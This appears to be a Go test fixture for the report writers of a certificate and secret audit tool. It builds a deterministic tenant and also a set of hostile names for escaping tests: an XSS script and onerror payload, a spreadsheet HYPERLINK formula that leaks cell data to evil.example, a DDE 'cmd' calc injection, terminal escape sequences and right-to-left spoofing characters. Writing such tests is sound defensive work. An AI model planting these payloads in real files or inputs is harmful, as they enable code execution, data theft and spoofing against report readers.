package reports_test

import (
	"crypto/sha1"
	"fmt"
	"strings"
	"time"

	"github.com/appaudit/appaudit/audit"
	"github.com/appaudit/appaudit/audit/audittest"
)

// The shared fixture every reporter renders: a Result produced by
// audit.Run from a small tenant whose credentials are all known by
// deterministic thumbprints (no generated keys), so that golden files are
// byte-stable. It covers every kind of finding a reporter must lay out:
// an application and a service principal, certificates and secrets, a
// finding with a deployed mapping row, one about a local file alone,
// local certificate statuses and a warning.

var fixtureNow = audittest.Now()

func fixtureDays(n int) time.Time { return fixtureNow.Add(audittest.Days(n)) }

// digest is a fixed SHA-1-sized value derived from a name.
func digest(name string) []byte {
	s := sha1.Sum([]byte(name))
	return s[:]
}

func fixtureKey(keyID, cn, usage string, from, to int) audit.KeyCredential {
	k := audit.KeyCredential{
		KeyID: keyID, DisplayName: "CN=" + cn, Type: audit.TypeAsymmetricX509Cert, Usage: usage,
		Start: fixtureDays(from), End: fixtureDays(to), CustomKeyIdentifier: digest(fmt.Sprintf("%s %d %d", cn, from, to)),
	}
	k.Identify(nil)
	return k
}

func fixtureLocal(path, cn, keyName string, from, to int) audit.LocalCert {
	tp := audit.ThumbprintsFromKeyIdentifier(digest(keyName))
	tp.SHA256 = fmt.Sprintf("%X", append(digest(keyName+"/256"), digest(keyName + "/256+")[:12]...))
	return audit.LocalCert{Source: path, Path: path, HasKey: true, Cert: &audit.Certificate{
		Subject: "CN=" + cn, NotBefore: fixtureDays(from), NotAfter: fixtureDays(to), Thumbprints: tp,
		PublicKeyAlgorithm: "RSA", KeyBits: 2048, SignatureAlgorithm: "SHA256-RSA",
	}}
}

func fixtureResult() *audit.Result { return fixtureWith(fixtureNames{}) }

// fixtureNames replaces the display names and file names of the shared
// fixture; empty fields keep the usual ones.
type fixtureNames struct {
	Payroll, Reporting, Mailer, SAML, Secret, CertName, Stray, Retired string
}

func (n fixtureNames) or(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// Hostile strings: what an attacker who can register an app, or write a
// file name, might put there to attack whoever reads the report.
const (
	hostileScript   = "<script>alert(1)</script><img src=x onerror=alert(2)> ]]><injected/> \"q\" \\ @admins"
	hostileFormula  = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") | [x](http://evil.example) ![i](http://evil.example/i.png)"
	hostileTerminal = "Evil\x1b[2J\x1b[31mApp\r\nforged line\x00nul \x1b]8;;http://evil.example\x07link\x1b]8;;\x07"
	hostileRTL      = "invoice\u202egnp.exe \u2066isolate\u2069 zero\u200bwidth"
	hostileEmoji    = "🔥 Mailer 👩‍💻 "
	hostileCmd      = "+cmd|' /C calc'!A0"
)

// hostileResult is the shared fixture with hostile names everywhere a
// name reaches a report: display names, credential names, file names and
// a mapping row's app (which becomes a warning).
func hostileResult() *audit.Result {
	return fixtureWith(fixtureNames{
		Payroll:   hostileScript,
		Reporting: hostileFormula,
		Mailer:    hostileEmoji + hostileTerminal + strings.Repeat(" very long name", 40),
		SAML:      hostileCmd,
		Secret:    "-2+3 @SUM(1)",
		CertName:  hostileRTL,
		Stray:     "certs/\t=evil<b>.pem",
		Retired:   hostileTerminal + " " + hostileScript + " " + hostileFormula,
	})
}

func fixtureWith(n fixtureNames) *audit.Result {
	payroll := fixtureKey("11111111-0000-4000-8000-000000000001", "payroll.contoso.com", audit.UsageVerify, -300, -3)
	payrollNext := fixtureKey("11111111-0000-4000-8000-000000000002", "payroll.contoso.com", audit.UsageVerify, -2, 20)
	reporting := fixtureKey("11111111-0000-4000-8000-000000000003", "reporting.contoso.com", audit.UsageVerify, -100, 250)

	apps := []audit.Application{
		audittest.App("00000000-0000-4000-a000-000000000001", n.or(n.Payroll, "Payroll API"), payroll, payrollNext),
		audittest.App("00000000-0000-4000-a000-000000000002", n.or(n.Reporting, "Reporting"), reporting),
		audittest.App("00000000-0000-4000-a000-000000000003", n.or(n.Mailer, "Mailer")),
	}
	if n.CertName != "" {
		apps[0].KeyCredentials[1].DisplayName = n.CertName
	}
	apps[2].PasswordCredentials = []audit.PasswordCredential{
		{KeyID: "22222222-0000-4000-8000-000000000001", DisplayName: n.or(n.Secret, "smtp"), Start: fixtureDays(-170), End: fixtureDays(9)},
	}
	tenant := &audit.Tenant{TenantID: "00000000-0000-0000-0000-00000000cafe", Cloud: "public", Complete: true, Applications: apps}
	tenant.ServicePrincipals = []audit.ServicePrincipal{{Principal: audit.Principal{
		ObjectID: "sp-saml", AppID: "00000000-0000-4000-a000-000000000009", DisplayName: n.or(n.SAML, "SAML Portal"),
		KeyCredentials: []audit.KeyCredential{
			fixtureKey("33333333-0000-4000-8000-000000000001", "Federated SSO", audit.UsageSign, -1000, -1),
			fixtureKey("33333333-0000-4000-8000-000000000002", "Federated SSO", audit.UsageVerify, -1000, -1),
		},
	}}}

	stray := fixtureLocal(n.or(n.Stray, "certs/test-client.pem"), "test-client.local", "stray", -1, 90)
	deployedReporting := fixtureLocal("certs/reporting-next.pem", "reporting.contoso.com", "reporting-next", -1, 360)
	inv := &audit.Inventory{
		Certs: []audit.LocalCert{stray, deployedReporting},
		Deployments: []audit.Deployment{
			{App: n.or(n.Payroll, "Payroll API"), Source: "deployed.csv:2", Thumbprints: payroll.Thumbprints},
			{App: "00000000-0000-4000-a000-000000000002", Source: "deployed.csv:3", CertPath: deployedReporting.Path,
				Thumbprints: deployedReporting.Cert.Thumbprints, Cert: &deployedReporting},
			{App: n.or(n.Retired, "Retired Service"), Source: "deployed.csv:4", Thumbprints: payroll.Thumbprints},
		},
	}
	r := audit.Run(tenant, inv, audit.DefaultPolicy(), fixtureNow)
	r.Source = audit.Source{Kind: "snapshot", Path: "tenant.json", TenantID: tenant.TenantID, Cloud: tenant.Cloud}
	return r
}
